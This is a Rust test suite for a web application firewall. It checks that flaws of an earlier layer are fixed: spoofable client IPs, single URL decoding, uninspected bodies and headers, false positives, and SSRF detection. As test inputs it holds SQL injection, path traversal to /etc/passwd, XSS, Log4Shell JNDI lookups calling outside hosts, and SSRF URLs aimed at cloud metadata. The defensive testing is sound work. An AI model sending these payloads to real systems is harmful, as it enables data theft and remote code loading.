//! The flaws of the layer that this replaces, each by its number: what it let pass is caught, what it broke passes.

#[cfg(test)]
mod support;

use support::{get, post};

const EXCLUDE_HEALTH: &str = r#"{"exclusions":[{"path":{"prefix":"/health"}}]}"#;
const ATTACK: &str = "1%27%20UNION%20SELECT%20password%20FROM%20users--%20";

/// Exclusions were a "contains" on path and query.
#[test]
fn l1_an_exclusion_matches_the_path_and_never_the_query() {
    assert!(
        get(&format!("/health?q={ATTACK}"))
            .run(EXCLUDE_HEALTH)
            .passed()
    );
    assert!(
        get(&format!("/health/live?q={ATTACK}"))
            .run(EXCLUDE_HEALTH)
            .passed()
    );
    for path in [
        format!("/api/pay?x=/health&q={ATTACK}"),
        format!("/api/pay?/health/&q={ATTACK}"),
        format!("/api/health?q={ATTACK}"),
        format!("/healthy?q={ATTACK}"),
        format!("/api/pay#/health?q={ATTACK}"),
    ] {
        let run = get(&path).run(EXCLUDE_HEALTH);
        assert_eq!(run.status, Some(403), "{path}");
        assert!(
            run.blocked_by().starts_with("SQL_INJECTION:"),
            "{path}: {}",
            run.blocked_by()
        );
    }
}

/// An exclusion takes protection away, so it needs a path that every server reads alike.
#[test]
fn l1_an_ambiguous_spelling_is_never_excluded() {
    for path in [
        "/health/../api/pay",
        "/health/..;/api/pay",
        "/health/%2e%2e/api/pay",
        "/health%2f..%2fapi/pay",
        "/health//../api/pay",
        "/health\\..\\api\\pay",
        "/health/;/../api/pay",
        "//health",
    ] {
        let run = get(&format!("{path}?q={ATTACK}")).run(EXCLUDE_HEALTH);
        assert_eq!(run.status, Some(403), "{path}");
    }
}

const TRUST_OFFICE: &str = r#"{"trustedClients":["203.0.113.0/24","2001:db8:7::/48"]}"#;

/// The client's address was the first entry of X-Forwarded-For: anybody's text.
#[test]
fn l2_a_client_is_trusted_by_the_address_that_envoy_vouches_for() {
    let attack = get(&format!("/?q={ATTACK}"));
    for spoofed in [
        "x-forwarded-for",
        "x-real-ip",
        "forwarded",
        "x-envoy-external-address",
        "true-client-ip",
    ] {
        let run = attack
            .clone()
            .header(spoofed, "203.0.113.9")
            .from("198.51.100.7:0")
            .run(TRUST_OFFICE);
        assert_eq!(run.status, Some(403), "{spoofed}");
        assert_eq!(run.line()["client_ip"], "198.51.100.7");
    }
    for trusted in [
        "203.0.113.9:0",
        "203.0.113.9:52100",
        "[2001:db8:7::1]:0",
        "[::ffff:203.0.113.9]:0",
    ] {
        assert!(
            attack.clone().from(trusted).run(TRUST_OFFICE).passed(),
            "{trusted}"
        );
    }
    for stranger in ["203.0.114.9:0", "[2001:db8:8::1]:0", "", "nonsense"] {
        assert_eq!(
            attack.clone().from(stranger).run(TRUST_OFFICE).status,
            Some(403),
            "{stranger}"
        );
    }
}

/// The address is a host call: it is made only where somebody needs it.
#[test]
fn l2_a_clean_request_does_not_ask_for_the_address() {
    assert_eq!(get("/matches/1?page=2").run("{}").asked_address, 0);
    assert_eq!(get(&format!("/?q={ATTACK}")).run("{}").asked_address, 1);
    assert_eq!(get("/matches/1").run(TRUST_OFFICE).asked_address, 1);
}

/// One URL decoding.
#[test]
fn l7_every_decoding_is_looked_through() {
    for (path, category) in [
        (
            "/static/%252e%252e%252f%252e%252e%252fetc%252fpasswd",
            "PATH_TRAVERSAL",
        ),
        ("/?f=..%c0%af..%c0%afetc%c0%afpasswd", "PATH_TRAVERSAL"),
        ("/?q=1%u0027%20OR%201=1--%20", "SQL_INJECTION"),
        ("/?q=1%2527%2520UNION%2520SELECT%25201,2--", "SQL_INJECTION"),
        ("/?q=%26lt;script%26gt;alert(1)%26lt;/script%26gt;", "XSS"),
        (
            "/?q=%EF%BC%9Cscript%EF%BC%9Ealert(1)%EF%BC%9C/script%EF%BC%9E",
            "XSS",
        ),
    ] {
        let run = get(path).run("{}");
        assert!(
            run.blocked_by().starts_with(category),
            "{path}: {}",
            run.blocked_by()
        );
    }
    let run = post(
        "/api",
        "application/json",
        r#"{"name":"x\u0027 OR 1=1-- "}"#,
    )
    .run("{}");
    assert!(
        run.blocked_by().starts_with("SQL_INJECTION"),
        "{}",
        run.blocked_by()
    );
}

/// Bodies, cookies and most headers were not looked at.
#[test]
fn l8_every_part_of_a_request_is_inspected() {
    let jndi = "${jndi:ldap://x.example/a}";
    for (case, target) in [
        (
            get("/").header("cookie", format!("theme={jndi}")),
            "cookie:theme",
        ),
        (
            get("/").header("x-api-version", jndi),
            "header:x-api-version",
        ),
        (get("/").header("user-agent", jndi), "header:user-agent"),
        (
            get("/").header("accept-language", jndi),
            "header:accept-language",
        ),
        (
            get(&format!("/?a=1&b={}", "$%7Bjndi:ldap://x.example/a%7D")),
            "query:b",
        ),
        (
            get("/?$%7Bjndi:ldap://x.example/a%7D=1"),
            "queryName:$%7Bjndi:ldap://x.example/a%7D",
        ),
        (
            post(
                "/",
                "application/json",
                format!(r#"{{"a":["x","{jndi}"]}}"#),
            ),
            "json:/a/1",
        ),
        (
            post(
                "/",
                "application/x-www-form-urlencoded",
                "a=1&comment=$%7Bjndi:ldap://x.example/a%7D",
            ),
            "form:comment",
        ),
        (post("/", "text/plain", jndi), "text"),
        (
            post("/", "application/xml", format!("<a><b>{jndi}</b></a>")),
            "",
        ),
        (
            post(
                "/",
                "multipart/form-data; boundary=B",
                format!(
                    "--B\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\n{jndi}\r\n--B--\r\n"
                ),
            ),
            "multipart:note",
        ),
        (
            post(
                "/",
                "application/graphql",
                format!(r#"{{ match(name: "{jndi}") {{ id }} }}"#),
            ),
            "",
        ),
    ] {
        let run = case.run("{}");
        assert!(
            run.blocked_by().starts_with("LOG4SHELL:"),
            "{target}: {:?}",
            run
        );
        if !target.is_empty() {
            assert_eq!(run.line()["target"], target);
        }
    }
}

/// `Host` goes to logs, too; Envoy shows it as `:authority`, and it is inspected once.
#[test]
fn l7_look_ups_are_found_in_the_host() {
    let jndi = "${jndi:ldap://203.0.113.9/a}";
    for host in [jndi.to_owned(), format!("shop.example:{jndi}")] {
        let run = get("/").host(&host).run("{}");
        assert!(run.blocked_by().starts_with("LOG4SHELL:"), "{run:?}");
        assert_eq!(run.line()["target"], "header:host");
        assert_eq!(run.reports[0].entries().len(), 1);
    }
}

/// Two quotes, `--`, `;x` or `|x` anywhere were an attack.
#[test]
fn l9_what_customers_send_passes() {
    for path in [
        "/oauth/callback?code=4%2F0AX4XfWh--9kQd_xY--z&state=a--b;c",
        "/socket.io/?EIO=4&transport=polling&t=O--aB;c&sid=Xk|9-_--A",
        "/grafana/api/datasources/proxy/1/api/v1/query?query=sum(rate(http_requests_total%7Bjob%3D%22api%22%7D%5B5m%5D))%20by%20(le)",
        "/loki/api/v1/query_range?query=%7Bapp%3D%22gateway%22%7D%20%7C%3D%20%22error%22%20%7C%20json",
        "/assets/index--BqZ1x.js",
        "/search?q=O%27Brien%20%26%20D%27Angelo",
        "/search?q=%22%EB%B4%84%EB%82%A0%22%20%EC%BD%98%EC%84%9C%ED%8A%B8%20%27%EC%84%9C%EC%9A%B8%27",
        "/search?q=rock;%20pop|jazz",
    ] {
        let run = get(path).run("{}");
        assert!(run.passed(), "{path}: {}", run.blocked_by());
    }
}

/// `172.*` counted as private, and any mention of 10.x.x.x or 127.0.0.1 as SSRF.
#[test]
fn l10_only_a_request_to_an_internal_host_is_ssrf() {
    for path in [
        "/proxy?url=http://172.217.25.14/",
        "/search?q=my%20router%20is%20at%2010.0.0.1",
        "/docs?version=10.1.2.3",
    ] {
        let run = get(path).run("{}");
        assert!(run.passed(), "{path}: {}", run.blocked_by());
    }
    for path in [
        "/proxy?url=http://2130706433/admin",
        "/proxy?url=http://0x7f000001/admin",
        "/proxy?url=http://0177.0.0.1/admin",
        "/proxy?url=http://[::ffff:127.0.0.1]/admin",
        "/proxy?url=http://127.0.0.1.nip.io/admin",
        "/proxy?url=http://169.254.169.254/latest/meta-data/",
    ] {
        let run = get(path).run("{}");
        assert!(
            run.blocked_by().starts_with("SSRF:"),
            "{path}: {}",
            run.blocked_by()
        );
    }
}

/// A Lua error let the request pass, and nobody saw.
#[test]
fn l13_what_cannot_be_inspected_is_refused_and_reported() {
    let run = post("/", "application/json", "{}").unreadable().run("{}");
    assert_eq!(
        (run.status, run.details.as_str()),
        (Some(500), "backstop_waf{REQUEST_BODY:body-unreadable}")
    );
    assert_eq!(run.line()["event"], "REQUEST_BODY_UNINSPECTED");
    let run = post("/", "application/json", "{}")
        .unreadable()
        .run(r#"{"mode":"detect"}"#);
    assert!(run.passed());
    assert_eq!(run.line()["blocked"], false);
}

/// A body that is not what it says is inspected as far as it goes.
#[test]
fn l13_a_broken_body_is_inspected_all_the_same() {
    for (content_type, body) in [
        (
            "application/json",
            r#"{"a": "1' UNION SELECT password FROM users-- ", "#,
        ),
        (
            "application/json",
            r#"{"a": nonsense, "b": "1' UNION SELECT password FROM users-- "}"#,
        ),
        (
            "text/nonsense; ;;",
            "1' UNION SELECT password FROM users-- ",
        ),
        ("", "a=1&b=1' UNION SELECT password FROM users-- "),
    ] {
        let run = post("/", content_type, body).run("{}");
        assert!(
            run.blocked_by().starts_with("SQL_INJECTION"),
            "{content_type} {body}: {run:?}"
        );
    }
}
